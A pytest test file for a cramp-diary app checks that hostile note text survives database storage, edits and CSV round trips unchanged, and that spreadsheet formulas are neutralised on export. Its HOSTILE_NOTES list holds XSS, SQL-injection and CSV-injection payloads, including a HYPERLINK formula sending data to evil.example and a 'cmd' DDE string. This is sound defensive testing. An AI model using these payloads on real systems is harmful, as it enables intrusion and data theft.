"""Hostile free text goes into the database and through the CSV exactly as typed."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime, time

import pytest
from sqlalchemy import Engine

from core.diary import MAX_NOTE_CHARS, DiaryInputError, Episode, NightContext
from core.files.csv_format import COLUMNS, parse_diary_csv, write_diary_csv
from core.interventions import Intervention
from db.engine import create_diary_engine
from db.repository import (
    add_episode,
    get_episode,
    import_diary,
    list_interventions,
    list_records,
    save_intervention,
    update_episode,
)

NOW = datetime(2026, 11, 1, 12, 0)
NIGHT = date(2026, 3, 13)

LONG_TAIL = "<end>🦵 ٣ é"
HOSTILE_NOTES = [
    '<script>alert("cramp")</script>',
    "<img src=x onerror=alert(document.cookie)>",
    '<a href="javascript:alert(1)">click</a> &amp; &lt;b&gt;',
    "Robert'); DROP TABLE episode;--",
    "' OR '1'='1' -- ",
    "%s %(note)s {0} $1 ? :note",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'=already quoted",
    "🦵💥 cramp at 3 a.m. 😖 👩🏽‍⚕️",
    "ألم في الساق اليسرى",
    "כאב ברגל \u202eRTL override\u202c and \u200fmarks\u200e",
    "line one\nline two\r\nline three\n",
    '"quoted", with, commas; and; semicolons',
    "  leading and trailing spaces  ",
    "NULL",
    "\\N \\x00 (a backslash, not a NUL)",
    "**bold** _it_ [link](http://evil.example) ![img](http://evil.example/t.png) :red[x]",
    "x" * (MAX_NOTE_CHARS - len(LONG_TAIL)) + LONG_TAIL,
]


def episode_with(note: str, minute: int) -> Episode:
    return Episode(
        night=NIGHT,
        time=time(2, minute),
        muscle="calf",
        side="left",
        duration_s=60,
        pain=5,
        note=note,
    )


def test_the_longest_hostile_note_is_exactly_the_limit() -> None:
    assert len(HOSTILE_NOTES[-1]) == MAX_NOTE_CHARS


def test_hostile_notes_are_stored_and_read_back_unchanged(engine: Engine) -> None:
    ids = [
        add_episode(engine=engine, episode=episode_with(note, i), context=None, now=NOW)
        for i, note in enumerate(HOSTILE_NOTES)
    ]
    for episode_id, note in zip(ids, HOSTILE_NOTES, strict=True):
        stored = get_episode(engine=engine, episode_id=episode_id)
        assert stored is not None and stored.note == note
    # the tables are still there, and hold exactly these rows
    assert sorted(e.note for e in list_records(engine=engine)[1]) == sorted(HOSTILE_NOTES)


def test_hostile_notes_survive_an_edit(engine: Engine) -> None:
    episode_id = add_episode(engine=engine, episode=episode_with("plain", 0), context=None, now=NOW)
    for note in HOSTILE_NOTES:
        update_episode(
            engine=engine,
            episode_id=episode_id,
            episode=episode_with(note, 0),
            context=NightContext(),
            now=NOW,
        )
        stored = get_episode(engine=engine, episode_id=episode_id)
        assert stored is not None and stored.note == note


def test_hostile_notes_go_through_csv_export_and_import_unchanged(
    engine: Engine, new_database_url: Callable[..., str]
) -> None:
    for i, note in enumerate(HOSTILE_NOTES):
        add_episode(engine=engine, episode=episode_with(note, i), context=None, now=NOW)
    text = write_diary_csv(*list_records(engine=engine))

    cells = [row[COLUMNS.index("note")] for row in csv.reader(io.StringIO(text, newline=""))]
    for cell in cells[1:]:  # a spreadsheet opening the file runs no formula
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))

    fresh = create_diary_engine(new_database_url(migrated=True))
    import_diary(engine=fresh, parsed=parse_diary_csv(text.encode("utf-8"), now=NOW))
    assert sorted(e.note for e in list_records(engine=fresh)[1]) == sorted(HOSTILE_NOTES)
    assert write_diary_csv(*list_records(engine=fresh)) == text
    fresh.dispose()


def test_hostile_intervention_names_and_notes_round_trip(engine: Engine) -> None:
    for note in HOSTILE_NOTES[:8]:
        save_intervention(
            engine=engine,
            intervention=Intervention(
                name=note[:200].strip() or "x", kind="other", started_on=NIGHT, note=note
            ),
            today=NIGHT,
        )
    stored = list_interventions(engine=engine)
    assert [i.note for i in stored] == HOSTILE_NOTES[:8]


@pytest.mark.parametrize("note", ["before\x00after", "\x00"])
def test_a_note_with_a_nul_character_is_refused_and_nothing_stored(
    engine: Engine, note: str
) -> None:
    with pytest.raises(DiaryInputError) as caught:
        add_episode(engine=engine, episode=episode_with(note, 0), context=None, now=NOW)
    assert [e.field for e in caught.value.errors] == ["note"]
    assert list_records(engine=engine) == ([], [])

    episode_id = add_episode(engine=engine, episode=episode_with("fine", 0), context=None, now=NOW)
    with pytest.raises(DiaryInputError):
        update_episode(
            engine=engine,
            episode_id=episode_id,
            episode=replace(episode_with("fine", 0), note=note),
            context=None,
            now=NOW,
        )
    stored = get_episode(engine=engine, episode_id=episode_id)
    assert stored is not None and stored.note == "fine"
